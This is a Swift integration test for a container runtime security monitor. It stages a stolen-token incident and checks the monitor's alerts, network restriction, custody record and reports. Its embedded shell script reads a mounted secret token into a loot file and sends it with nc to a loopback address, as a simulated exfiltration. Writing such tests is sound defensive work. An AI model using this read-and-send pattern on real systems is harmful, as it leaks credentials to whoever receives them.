import Foundation
import Testing

extension NodeTests {
    /// The whole story of one incident, told by everything that tells of it.
    @Suite(.needs("podman", "crun", "busybox"), .serialized) struct StolenTokenTests {
        private let files = Scratch("stolen")
        private let workload = "container/driftwatch-shop"

        /// A service that asks its price list again and again; whoever has taken it over has it do more.
        private static let service = """
            while :; do
              nc 127.1.0.1 8443 </dev/null 2>/dev/null
              if [ -e /in/steal ]; then rm /in/steal; cat /run/secrets/token >/tmp/loot; fi
              if [ -e /in/send ]; then rm /in/send; nc 127.1.0.9 8443 </tmp/loot 2>>/in/said; fi
              sleep 0.1
            done
            """

        private func driftwatch(_ words: String...) async throws -> String {
            try await must([Monitor.command] + words + ["--state", files / "state"])
        }

        /// What the program that sends the loot away is told by the kernel.
        private func send() async throws -> String {
            let before = (try? read(files / "in/said")) ?? ""
            _ = try files.write("", to: "in/send")
            return try await eventually("an answer", within: .seconds(20)) {
                let said = (try? read(files / "in/said")) ?? ""
                return said.hasSuffix("\n") && said != before ? String(said.dropFirst(before.count)) : nil
            }
        }

        @Test func fromTheTheftToTheReport() async throws {
            let box = try await Box.shared()
            let image = try await box.image("localhost/tiny:1")
            try await box.verb("podman_up")
            try await box.verb("podman_", "load", "-q", "-i", image)
            let token = try files.write("a token", to: "token")
            _ = try files.write(Self.service, to: "in/service")
            let owners = try files.write("owners: [{workload: \(workload), owner: payments}]", to: "owners.yaml")
            let config = try files.write(
                """
                response:
                  mode: enforce
                  policies:
                    - name: stolen-token
                      match: {rules: [open.credential], workloads: [container/driftwatch-*]}
                      steps: [{restrict: {for: 6s}}]
                """, to: "config.yaml")
            let monitor = try await Monitor([
                "run", "--config", config, "--state", files / "state", "--learn", "6s", "--workload", workload,
                "--owners",
                owners,
            ])
            try await box.verb(
                "podman_", "run", "-d", "--pull=never", "--network=none", "--name", "driftwatch-shop", "-v",
                "\(token):/run/secrets/token:ro", "-v", "\(files / "in"):/in", "--entrypoint", "/bin/sh",
                "localhost/tiny:1",
                "/in/service")
            try await monitor.armed(workload)

            _ = try files.write("", to: "in/steal")
            let alert = try await monitor.line("the theft") { $0.kind == "alert" && $0.rule == "open.credential" }
            #expect(alert.file == "/run/secrets/token", "\(alert)")
            let restricted = try await monitor.line("restricted") { $0.action == "response-restricted" }
            #expect(restricted["driftwatch.response.alert"] == alert["event.id"], "\(restricted)")

            #expect(try await send().contains("Operation not permitted"))
            let attempt = try await monitor.line("the attempt") { $0.kind == "alert" && $0.action == "connect" }
            #expect(attempt["destination.ip"] == "127.1.0.9", "what is refused is told all the same: \(attempt)")
            let lifted = try await monitor.line("lifted", within: .seconds(20)) { $0.action == "response-lifted" }
            #expect((lifted["driftwatch.response.refused"]?.integer ?? 0) >= 1, "\(lifted)")
            #expect(try await send().contains("Connection refused"), "nobody listens there, and nobody forbids it")

            try await box.verb("podman_", "rm", "-f", "-t", "0", "driftwatch-shop")
            let end = try await monitor.line("its end", within: .seconds(20)) { $0.action == "workload-ended" }
            try await monitor.stop()
            try await box.verb("podman_down")

            // The custody record: what it read and by which program, what was told of it, and what was done.
            #expect(end["driftwatch.owner.name"] == "payments", "\(end)")
            let alerts = end["driftwatch.custody.alerts"]?.array?.map(Line.init(json:)) ?? []
            let decided = alerts.first { $0["rule"] == "open.credential" }
            #expect(decided?["decision"]?.string?.contains("restricted") == true, "\(end)")
            let custody = try await driftwatch("evidence", "custody", workload)
            for fact in ["/run/secrets/token", "127.1.0.9:8443", "payments", "restricted", "yes, by the key"] {
                #expect(custody.contains(fact), "\(fact): \(custody)")
            }
            // The register: whose credential it is now.
            let card = try await driftwatch("register", workload)
            for fact in ["payments", "/run/secrets/token", "/bin/busybox", "127.1.0.9:8443/tcp"] {
                #expect(card.contains(fact), "\(fact): \(card)")
            }
            // The report, and the proof beneath it.
            for format in ["md", "html", "json"] {
                let report = try await driftwatch("report", "--from", "1h", "-o", format)
                for fact in [workload, "/run/secrets/token", "stolen-token", "open.credential"] {
                    #expect(report.contains(fact), "\(format) has no \(fact): \(report.prefix(2000))")
                }
            }
            _ = try await driftwatch("evidence", "verify")
        }
    }
}
